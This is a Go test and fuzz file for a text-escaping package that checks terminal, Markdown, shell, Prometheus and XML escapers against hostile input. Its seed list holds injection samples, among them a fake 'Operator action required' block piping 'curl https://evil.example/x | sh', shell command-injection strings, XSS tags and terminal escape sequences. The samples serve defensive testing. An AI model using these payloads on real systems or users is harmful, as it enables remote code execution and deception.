package safetext

import (
	"bytes"
	"encoding/xml"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"
)

// Attacks seen in the security review (issue 18) and their relatives.
var attacks = []string{
	"",
	"plain v1.0.0",
	"p95_latency_ms",
	"x\n\n## Operator action required\n\n```sh\ncurl https://evil.example/x | sh\n```\n",
	"[**Approve this release**](https://evil.example/approve)",
	"![img](https://evil.example/pixel.png)",
	"<img src=x onerror=alert(1)>",
	"<script>alert(1)</script>",
	"&lt;b&gt; &#x3c;",
	"# heading",
	"> quote",
	"- item",
	"1. step",
	"12) step",
	"---",
	"===",
	"    indented code",
	"~~~\nfence",
	"`code` ``two``",
	"a | b | c",
	"__init__ *x* _y_",
	"$x$ $$y$$",
	"\\[not a link\\]",
	"\x1b[31mred\x1b[0m",
	"\x1b]8;;https://evil.example\x07click\x1b]8;;\x07",
	"\x1b]0;title\x1b\\after",
	"\x1bPdcs\x1b\\",
	"\u009b31m8bit",
	"\u009d0;t\u009cx",
	"bell\x07 nul\x00 del\x7f cr\r lf\n tab\t",
	"bidi \u202egnp.exe\u202c",
	"line\u2028sep\u2029para",
	"\xff\xfe invalid",
	"v1$(touch${IFS}pwned)",
	`v1";touch pwned;echo "`,
	"it's",
	"-rf",
	"--output=/tmp/x",
	"a\"b\\c",
	"日本語_テキスト",
	"\x1b",
	"\x1b[",
	"\x1b]unterminated",
}

func TestTerminal(t *testing.T) {
	tests := []struct{ in, want, line string }{
		{"plain", "plain", "plain"},
		{"\x1b[31mred\x1b[0m", "red", "red"},
		{"\x1b]8;;https://evil.example\x07click\x1b]8;;\x07", "click", "click"},
		{"\x1b]0;title\x1b\\after", "after", "after"},
		{"\u009b31m8bit", "8bit", "8bit"},
		{"a\nb\tc\rd", "a\nb\tcd", "a b c d"},
		{"bell\x07nul\x00", "bellnul", "bellnul"},
		{"bidi \u202egnp.exe\u202c", "bidi gnp.exe", "bidi gnp.exe"},
		{"\xffx", "\uFFFDx", "\uFFFDx"},
		{"\x1b]unterminated", "", ""},
		{"x\x1b(Bq", "xq", "xq"},
	}
	for _, tc := range tests {
		if got := Terminal(tc.in); got != tc.want {
			t.Errorf("Terminal(%q) = %q, want %q", tc.in, got, tc.want)
		}
		if got := TerminalLine(tc.in); got != tc.line {
			t.Errorf("TerminalLine(%q) = %q, want %q", tc.in, got, tc.line)
		}
	}
}

func TestMarkdownText(t *testing.T) {
	tests := []struct{ in, want string }{
		{"v1.0.0", "v1.0.0"},
		{"p95_latency_ms", "p95_latency_ms"},
		{"mean >= 0.83", "mean >= 0.83"},
		{"p95 <= 340, x < 2", "p95 <= 340, x < 2"},
		{"</p> <!-- <?x", `\</p> \<!-- \<?x`},
		{"-0.5", "-0.5"},
		{"x\n\n## Operator action required", "x  ## Operator action required"},
		{"## Operator action required", `\## Operator action required`},
		{"[**Approve this release**](https://e/x)", `\[\*\*Approve this release\*\*\](https://e/x)`},
		{"![i](https://e/p.png)", `!\[i\](https://e/p.png)`},
		{"<img src=x>", `\<img src=x>`},
		{"&lt; a & b", `\&lt; a & b`},
		{"> q", `\> q`},
		{"- item", `\- item`},
		{"---", `\---`},
		{"1. step", `1\. step`},
		{"1.5 ms", "1.5 ms"},
		{"```sh", "\\`\\`\\`sh"},
		{"a | b", `a \| b`},
		{"__init__", `\_\_init\_\_`},
		{"$(x)", `\$(x)`},
		{"~~s~~", `\~\~s\~\~`},
		{`a\b`, `a\\b`},
		{"  padded  ", "padded"},
		{"\x1b[31mred", "red"},
	}
	for _, tc := range tests {
		if got := MarkdownText(tc.in); got != tc.want {
			t.Errorf("MarkdownText(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

func TestMarkdownTableCell(t *testing.T) {
	tests := []struct{ in, want string }{
		{">= 0.83", ">= 0.83"},
		{"- x", "- x"},
		{"# x | [y](z)", `# x \| \[y\](z)`},
	}
	for _, tc := range tests {
		if got := MarkdownTableCell(tc.in); got != tc.want {
			t.Errorf("MarkdownTableCell(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

func TestMarkdownCode(t *testing.T) {
	tests := []struct{ in, want, table string }{
		{"v1.0.0", "`v1.0.0`", "`v1.0.0`"},
		{"a`b", "``a`b``", "``a`b``"},
		{"`x", "`` `x ``", "`` `x ``"},
		{"a``b`", "``` a``b` ```", "``` a``b` ```"},
		{"", "` `", "` `"},
		{"x{a=\"b\"} | y", "`x{a=\"b\"} | y`", "`x{a=\"b\"} \\| y`"},
		{"a\nb", "`a b`", "`a b`"},
	}
	for _, tc := range tests {
		if got := MarkdownCode(tc.in); got != tc.want {
			t.Errorf("MarkdownCode(%q) = %q, want %q", tc.in, got, tc.want)
		}
		if got := MarkdownTableCode(tc.in); got != tc.table {
			t.Errorf("MarkdownTableCode(%q) = %q, want %q", tc.in, got, tc.table)
		}
	}
}

func TestShellWord(t *testing.T) {
	tests := []struct{ in, want string }{
		{"v1.0.0", "v1.0.0"},
		{"release/v1.0.0", "release/v1.0.0"},
		{"", "''"},
		{"a b", "'a b'"},
		{"v1$(touch${IFS}pwned)", "'v1$(touch${IFS}pwned)'"},
		{`v1";touch pwned;echo "`, `'v1";touch pwned;echo "'`},
		{"it's", `'it'\''s'`},
		{"~/x", "'~/x'"},
		{"*", "'*'"},
	}
	for _, tc := range tests {
		if got := ShellWord(tc.in); got != tc.want {
			t.Errorf("ShellWord(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

func TestPromLabel(t *testing.T) {
	tests := []struct{ in, want string }{
		{"p95_latency_ms", "p95_latency_ms"},
		{`a"b\c`, `a\"b\\c`},
		{"a\nb", `a\nb`},
		{"a\x1b[31mb\x00", "ab"},
		{"\xffx", "x"},
	}
	for _, tc := range tests {
		if got := PromLabel(tc.in); got != tc.want {
			t.Errorf("PromLabel(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

func TestXML(t *testing.T) {
	tests := []struct{ in, text, attr string }{
		{"a<b>&c", "a&lt;b&gt;&amp;c", "a&lt;b&gt;&amp;c"},
		{`"it's"`, `"it's"`, "&quot;it&apos;s&quot;"},
		{"a\nb\x00\x1b[1m]]>", "a\nb]]&gt;", "a b]]&gt;"},
		{"\ufffe\ufdd0ok", "\ufdd0ok", "\ufdd0ok"},
	}
	for _, tc := range tests {
		if got := XMLText(tc.in); got != tc.text {
			t.Errorf("XMLText(%q) = %q, want %q", tc.in, got, tc.text)
		}
		if got := XMLAttr(tc.in); got != tc.attr {
			t.Errorf("XMLAttr(%q) = %q, want %q", tc.in, got, tc.attr)
		}
	}
}

func TestTerminalWriter(t *testing.T) {
	var b bytes.Buffer
	w := TerminalWriter{W: &b}
	for _, s := range []string{"soak-run: \x1b]0;pwned\x07iteration 1\n", EraseLine, "[1/2] ETA 1s", "x\r\x1b[Ky\n"} {
		n, err := w.Write([]byte(s))
		if err != nil || n != len(s) {
			t.Fatalf("Write(%q) = %d, %v", s, n, err)
		}
	}
	want := "soak-run: iteration 1\n" + EraseLine + "[1/2] ETA 1sxy\n"
	if diff := cmp.Diff(want, b.String()); diff != "" {
		t.Errorf("(-want +got)\n%s", diff)
	}
}

// checkTerminal fails unless s holds no control, escape or invisible
// character other than those allowed, and is valid UTF-8.
func checkTerminal(t *testing.T, what, in, s string, allowed string) {
	t.Helper()
	if !utf8.ValidString(s) {
		t.Fatalf("%s(%q) = %q: invalid UTF-8", what, in, s)
	}
	for _, r := range s {
		if (control(r) || invisible(r)) && !strings.ContainsRune(allowed, r) {
			t.Fatalf("%s(%q) = %q: holds %U", what, in, s, r)
		}
	}
}

// checkMarkdownText fails unless every Markdown-special character of s is
// backslash-escaped and unescaping gives the displayed text back.
func checkMarkdownText(t *testing.T, in, s string) { checkMarkdown(t, in, s, true) }

func checkMarkdown(t *testing.T, in, s string, block bool) {
	t.Helper()
	checkTerminal(t, "MarkdownText", in, s, "")
	if s != strings.TrimSpace(s) {
		t.Fatalf("MarkdownText(%q) = %q: leading or trailing space", in, s)
	}
	if block && s != "" && (s[0] == '#' || s[0] == '>') {
		t.Fatalf("MarkdownText(%q) = %q: starts a block", in, s)
	}
	var plain strings.Builder
	for i := 0; i < len(s); i++ {
		c := s[i]
		if c == '\\' {
			if i+1 == len(s) || !strings.ContainsRune("!\"#$%&'()*+,-./:;<=>?@[\\]^_`{|}~", rune(s[i+1])) {
				t.Fatalf("MarkdownText(%q) = %q: a backslash at %d escapes nothing", in, s, i)
			}
			plain.WriteByte(s[i+1])
			i++
			continue
		}
		switch {
		case strings.IndexByte("`*[]|~$", c) >= 0,
			c == '<' && i+1 < len(s) && (isLetter(s[i+1]) || strings.IndexByte("/!?", s[i+1]) >= 0):
			t.Fatalf("MarkdownText(%q) = %q: unescaped %q at %d", in, s, c, i)
		case c == '_' && !(i > 0 && isWordByte(s[i-1]) && i+1 < len(s) && isWordByte(s[i+1])):
			t.Fatalf("MarkdownText(%q) = %q: underscore at %d can emphasise", in, s, i)
		case c == '&' && i+1 < len(s) && (isLetter(s[i+1]) || isDigit(s[i+1]) || s[i+1] == '#'):
			t.Fatalf("MarkdownText(%q) = %q: unescaped entity at %d", in, s, i)
		}
		plain.WriteByte(c)
	}
	if want := strings.TrimSpace(TerminalLine(in)); plain.String() != want {
		t.Fatalf("MarkdownText(%q) displays %q, want %q", in, plain.String(), want)
	}
}

func checkCode(t *testing.T, in, s string, table bool) {
	t.Helper()
	checkTerminal(t, "MarkdownCode", in, s, "")
	n := 0
	for n < len(s) && s[n] == '`' {
		n++
	}
	if n == 0 || len(s) < 2*n || !strings.HasSuffix(s, strings.Repeat("`", n)) {
		t.Fatalf("MarkdownCode(%q) = %q: not a code span", in, s)
	}
	inner := s[n : len(s)-n]
	for _, run := range strings.FieldsFunc(inner, func(r rune) bool { return r != '`' }) {
		if len(run) == n {
			t.Fatalf("MarkdownCode(%q) = %q: inner run closes the span", in, s)
		}
	}
	if len(inner) >= 2 && inner[0] == ' ' && inner[len(inner)-1] == ' ' && strings.Trim(inner, " ") != "" {
		inner = inner[1 : len(inner)-1]
	}
	want := TerminalLine(in)
	if table {
		want = strings.ReplaceAll(want, "|", `\|`)
	}
	if inner != want && !(want == "" && inner == " ") {
		t.Fatalf("MarkdownCode(%q) = %q: shows %q, want %q", in, s, inner, want)
	}
}

// unshell reads a word the way a POSIX shell does (plain characters,
// single-quoted strings, a backslash outside quotes) and fails on anything
// that would expand.
func unshell(t *testing.T, in, w string) string {
	t.Helper()
	var b strings.Builder
	for i := 0; i < len(w); {
		switch c := w[i]; {
		case c == '\'':
			j := strings.IndexByte(w[i+1:], '\'')
			if j < 0 {
				t.Fatalf("ShellWord(%q) = %q: unterminated quote", in, w)
			}
			b.WriteString(w[i+1 : i+1+j])
			i += j + 2
		case c == '\\' && i+1 < len(w):
			b.WriteByte(w[i+1])
			i += 2
		case shellPlain(rune(c)):
			b.WriteByte(c)
			i++
		default:
			t.Fatalf("ShellWord(%q) = %q: unquoted %q at %d", in, w, c, i)
		}
	}
	return b.String()
}

func checkShell(t *testing.T, in, w string) {
	t.Helper()
	if got := unshell(t, in, w); got != in {
		t.Fatalf("ShellWord(%q) = %q: the shell reads %q", in, w, got)
	}
}

func checkProm(t *testing.T, in, s string) {
	t.Helper()
	checkTerminal(t, "PromLabel", in, s, "")
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		switch {
		case s[i] == '\\':
			if i+1 == len(s) || !strings.ContainsRune(`\"n`, rune(s[i+1])) {
				t.Fatalf("PromLabel(%q) = %q: bad escape at %d", in, s, i)
			}
			b.WriteByte(map[byte]byte{'\\': '\\', '"': '"', 'n': '\n'}[s[i+1]])
			i++
		case s[i] == '"':
			t.Fatalf("PromLabel(%q) = %q: unescaped quote", in, s)
		default:
			b.WriteByte(s[i])
		}
	}
	if strings.Contains(b.String(), string(utf8.RuneError)) {
		t.Fatalf("PromLabel(%q) = %q: holds U+FFFD", in, s)
	}
}

func checkXML(t *testing.T, in string) {
	t.Helper()
	doc := `<a x="` + XMLAttr(in) + `" y='` + XMLAttr(in) + `'>` + XMLText(in) + `</a>`
	var v struct {
		X    string `xml:"x,attr"`
		Y    string `xml:"y,attr"`
		Text string `xml:",chardata"`
	}
	if err := xml.Unmarshal([]byte(doc), &v); err != nil {
		t.Fatalf("XML of %q: %v\n%s", in, err, doc)
	}
	if v.X != v.Y || v.X != strings.ReplaceAll(v.X, "\n", "") {
		t.Fatalf("XMLAttr(%q) reads back as %q and %q", in, v.X, v.Y)
	}
}

func checkAll(t *testing.T, s string) {
	checkTerminal(t, "Terminal", s, Terminal(s), "\n\t")
	checkTerminal(t, "TerminalLine", s, TerminalLine(s), "")
	if Terminal(Terminal(s)) != Terminal(s) {
		t.Fatalf("Terminal(%q) is not idempotent", s)
	}
	checkMarkdownText(t, s, MarkdownText(s))
	checkMarkdown(t, s, MarkdownTableCell(s), false)
	checkCode(t, s, MarkdownCode(s), false)
	checkCode(t, s, MarkdownTableCode(s), true)
	checkShell(t, s, ShellWord(s))
	checkProm(t, s, PromLabel(s))
	checkXML(t, s)
	if OneLine(s) && (TerminalLine(s) != s || strings.ContainsAny(s, "\n\r\x1b")) {
		t.Fatalf("OneLine(%q) but it changes on a terminal", s)
	}
}

func TestAttacks(t *testing.T) {
	for _, s := range attacks {
		checkAll(t, s)
	}
}

// FuzzEscapers checks every helper's contract on arbitrary input: the
// output is shown as exactly the input's text, never as markup, a
// command, an escape sequence or a control character.
func FuzzEscapers(f *testing.F) {
	for _, s := range attacks {
		f.Add(s)
	}
	f.Fuzz(checkAll)
}

func FuzzTerminal(f *testing.F) {
	for _, s := range attacks {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		checkTerminal(t, "Terminal", s, Terminal(s), "\n\t")
		checkTerminal(t, "TerminalLine", s, TerminalLine(s), "")
		var b bytes.Buffer
		TerminalWriter{W: &b}.Write([]byte(s))
		if s != EraseLine {
			checkTerminal(t, "TerminalWriter", s, b.String(), "\n\t")
		}
	})
}

func FuzzMarkdownText(f *testing.F) {
	for _, s := range attacks {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		checkMarkdownText(t, s, MarkdownText(s))
		checkMarkdown(t, s, MarkdownTableCell(s), false)
	})
}

func FuzzMarkdownCode(f *testing.F) {
	for _, s := range attacks {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		checkCode(t, s, MarkdownCode(s), false)
		checkCode(t, s, MarkdownTableCode(s), true)
	})
}

func FuzzShellWord(f *testing.F) {
	for _, s := range attacks {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) { checkShell(t, s, ShellWord(s)) })
}

func FuzzPromLabel(f *testing.F) {
	for _, s := range attacks {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) { checkProm(t, s, PromLabel(s)) })
}

func FuzzXML(f *testing.F) {
	for _, s := range attacks {
		f.Add(s)
	}
	f.Fuzz(checkXML)
}
